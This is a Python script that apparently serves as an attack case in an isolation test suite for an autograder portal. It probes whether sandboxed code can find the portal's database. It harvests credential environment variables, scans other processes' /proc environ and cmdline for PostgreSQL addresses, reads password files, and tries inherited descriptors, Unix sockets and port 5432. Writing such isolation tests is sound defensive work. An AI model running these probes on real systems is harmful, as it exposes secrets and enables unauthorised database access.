# Attack: looks for the address of the portal's database, or for a way to it without one.
# Kind: reading

import glob
import os
import pathlib
import socket

for name in ("DATABASE_URL", "PGPASSWORD", "PGSERVICEFILE", "AUTOGRADER_PORTAL_DATA"):
    if name in os.environ:
        through(f"the environment has {name}: {os.environ[name]}")
for process in ["self", HOST["main"], HOST["victim"], *filter(str.isdigit, os.listdir("/proc"))]:
    for name in ("environ", "cmdline"):
        try:
            found = pathlib.Path("/proc", str(process), name).read_bytes()
        except OSError:
            continue
        if b"postgresql:" + b"//" in found:
            through(f"{name} of process {process} has the address")
for name in ("worker-url", "worker-password", "postgresql-password"):
    for home in (HOST["portal"], "portal-data", "/var/lib/autograder"):
        try:
            through(f"read {home}/{name}: {pathlib.Path(home, name).read_text()[:200]}")
        except OSError:
            pass
for number in range(4, 256):
    try:
        with socket.socket(fileno=os.dup(number)) as inherited:
            through(f"descriptor {number} is a connection to {inherited.getpeername()}")
    except OSError:
        pass
sockets = [HOST["database"], *glob.glob("/tmp/autograder-portal-*/.s.PGSQL.*")]
for path in [*sockets, "/run/postgresql/.s.PGSQL.5432", "/tmp/.s.PGSQL.5432"]:
    try:
        with socket.socket(socket.AF_UNIX) as link:
            link.connect(path)
            through(f"connected to {path}")
    except OSError as error:
        print(error)
for host in ("127.0.0.1", "postgres", "database", "db"):
    try:
        socket.create_connection((host, 5432), 1).close()
        through(f"connected to {host}, port 5432")
    except OSError as error:
        print(error)
